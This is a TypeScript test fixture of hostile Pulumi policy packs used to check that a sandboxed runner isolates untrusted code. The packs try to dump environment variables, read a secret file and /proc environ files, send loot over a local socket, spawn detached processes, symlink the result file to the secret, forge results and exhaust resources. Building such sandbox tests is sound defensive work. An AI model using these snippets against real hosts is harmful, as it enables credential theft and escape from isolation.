/**
 * Hostile repository policy packs (issue 24, class 9). A pack is the repository's code and it analyses what
 * the model's program registered; it must get nothing of the host: not the parent's environment (the model
 * key, cloud credentials), not a host file, not the network, no process that outlives it, no write outside
 * its run dir. And what it hands back is read by the parent, which must not take a forged, oversized,
 * malformed or missing result for "no violations". Placeholders as in `corpus.ts`: `__SECRET_FILE__`,
 * `__OUT_FILE__`, `__PORT__`, `__MARKER__`; every pack is CommonJS (`index.js`).
 */
export interface PackAttack {
  readonly name: string;
  /** The pack's `index.js`. */
  readonly source: string;
  /**
   * `loot`: the pack runs and reports what it got as a mandatory violation: the rung fails on it, and the
   * secret is nowhere. `fails`: the rung fails with `policy-pack-error` or `policy-crashed`, never passes.
   */
  readonly expect: 'loot' | 'fails';
  /** For `fails`: what the failure must say (so a pack that never ran cannot pass for a held attack). */
  readonly reason?: RegExp;
  /** The pack's wall-clock limit (default 30 s). */
  readonly timeLimitMs?: number;
}

/** Everything a pack could try once it runs, each attempt caught: the loot is what got through. */
const STEAL = `
const fs = require('fs');
function steal() {
  let loot = '';
  const attempt = (fn) => { try { const got = fn(); if (got) loot += String(got); } catch (e) { loot += ''; } };
  attempt(() => JSON.stringify(process.env));
  attempt(() => fs.readFileSync('__SECRET_FILE__', 'utf8'));
  attempt(() => fs.readFileSync('/proc/' + process.ppid + '/environ', 'utf8'));
  attempt(() => fs.readFileSync('/proc/1/environ', 'utf8'));
  attempt(() => fs.writeFileSync('__OUT_FILE__', 'escaped'));
  attempt(() => { const s = require('net').connect(__PORT__, '127.0.0.1'); s.on('error', () => undefined); s.end('knock ' + loot); });
  attempt(() => require('child_process').spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)', '__MARKER__'], { detached: true, stdio: 'ignore' }).unref());
  attempt(() => require('child_process').execSync('cat __SECRET_FILE__').toString());
  attempt(() => process.binding('spawn_sync'));
  return loot;
}
`;

const PACK = (policies: string): string =>
  `const { PolicyPack } = require('@pulumi/policy');\nnew PolicyPack('hostile', { enforcementLevel: 'mandatory', policies: [${policies}] });\n`;

const REPORTING = `{ name: 'loot', description: 'What the pack got.', validateResource: (args, report) => report('loot:' + steal()) }`;

/** The result path, as the pack can find it from the runner's job file (the last argument). */
const RESULT = `const resultFile = JSON.parse(require('fs').readFileSync(process.argv[process.argv.length - 1], 'utf8')).resultFile;`;

/** A pack that replaces its result and exits before the runner writes the real one. */
function forged(name: string, reason: RegExp, forge: string, exit = 'process.exit(0);'): PackAttack {
  return { name, expect: 'fails', reason, source: `${RESULT}\n${forge}\n${exit}\n${PACK('')}` };
}

const CLEAN_RESULT = `JSON.stringify({ kind: 'analysed', pack: { name: 'hostile', enforcementLevel: 'mandatory', policies: [] }, cases: [{ diagnostics: [], crashes: [] }] })`;

export const PACK_ATTACKS: readonly PackAttack[] = [
  { name: 'steals from a policy', expect: 'loot', source: `${STEAL}${PACK(REPORTING)}` },
  {
    name: 'steals while loading',
    expect: 'loot',
    source: `${STEAL}const got = steal();\n${PACK(`{ name: 'loot', description: 'x', validateResource: (args, report) => report('loot:' + got) }`)}`,
  },
  {
    name: 'steals from a stack policy, asynchronously',
    expect: 'loot',
    source: `${STEAL}${PACK(`{ name: 'loot', description: 'x', validateStack: async (args, report) => { await new Promise((r) => setTimeout(r, 50)); report('loot:' + steal()); } }`)}`,
  },
  {
    name: 'reads the parent environment through a worker',
    expect: 'loot',
    source: `let got = '';\ntry { const { Worker } = require('worker_threads'); new Worker('process.env', { eval: true }); } catch (e) { got = e.code; }\n${PACK(`{ name: 'loot', description: 'x', validateResource: (args, report) => report('loot:' + got + JSON.stringify(process.env)) }`)}`,
  },
  forged(
    'forges a result for no configuration case',
    /does not hold one analysis for each of the 1 configuration case/,
    `require('fs').writeFileSync(resultFile, JSON.stringify({ kind: 'analysed', pack: { name: 'hostile', enforcementLevel: 'mandatory', policies: [] }, cases: [] }));`,
  ),
  forged(
    'forges a clean result, then exits 3',
    /its process failed \(exit 3\)/,
    `require('fs').writeFileSync(resultFile, ${CLEAN_RESULT});`,
    'process.exit(3);',
  ),
  forged(
    'forges a result with an invalid pack name',
    /invalid pack name "\.\.\/\.\.\/etc"/,
    `require('fs').writeFileSync(resultFile, ${CLEAN_RESULT}.replace('"hostile"', '"../../etc"'));`,
  ),
  forged(
    'writes a 17 MB result',
    /its result is larger than 16 MB/,
    `require('fs').writeFileSync(resultFile, ${CLEAN_RESULT}.replace('[]}', '[' + '"x",'.repeat(4.5e6) + '"x"]}'));`,
  ),
  forged(
    'writes a result that is not JSON',
    /its result is not JSON/,
    `require('fs').writeFileSync(resultFile, '{"kind":"analysed",');`,
  ),
  forged(
    'puts a directory at the result path',
    /its result is not a file/,
    `require('fs').mkdirSync(resultFile);`,
  ),
  forged(
    'links the result path to the host secret',
    /symlink/,
    `require('fs').symlinkSync('__SECRET_FILE__', resultFile);`,
  ),
  forged('exits without a result', /it wrote no result \(exit 0\)/, '', 'process.exit(0);'),
  {
    name: 'throws inside a policy on every resource',
    expect: 'fails',
    reason: /a policy of pack 'hostile' threw.*boom/,
    source: PACK(`{ name: 'boom', description: 'x', validateResource: () => { throw new Error('boom'); } }`),
  },
  {
    name: 'never finishes loading',
    expect: 'fails',
    reason: /did not finish within 3 s/,
    timeLimitMs: 3000,
    source: `for (;;) {}\n`,
  },
  {
    name: 'exhausts its memory',
    expect: 'fails',
    reason: /it wrote no result \(exit /,
    source: `const hoard = []; for (;;) hoard.push(Buffer.alloc(64 * 1024 * 1024, 1));\n`,
  },
];
